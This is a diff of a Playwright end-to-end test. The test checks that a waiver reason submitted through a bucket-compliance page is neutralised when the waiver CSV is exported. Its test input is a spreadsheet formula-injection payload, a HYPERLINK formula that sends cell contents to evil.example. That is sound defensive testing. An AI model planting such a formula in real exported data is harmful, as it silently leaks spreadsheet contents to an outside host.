@@ -15,7 +15,10 @@ test("a waiver reason starting with =HYPERLINK( is neutralised in the waiver CSV
   const buckets = new BucketsPage(page);
   await buckets.goto(`?q=${SPECIAL.unencryptedHigh}`);
   await buckets.openBucket(SPECIAL.unencryptedHigh);
-  const failing = page.locator('[data-status="fail"]').filter({ has: page.getByRole("link", { name: "Propose waiver" }) }).first();
+  const failing = page
+    .locator('[data-status="fail"]')
+    .filter({ has: page.getByRole("link", { name: "Propose waiver" }) })
+    .first();
   await failing.getByRole("link", { name: "Propose waiver" }).click();
   const form = page.getByTestId("propose-waiver");
   const reason = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")';
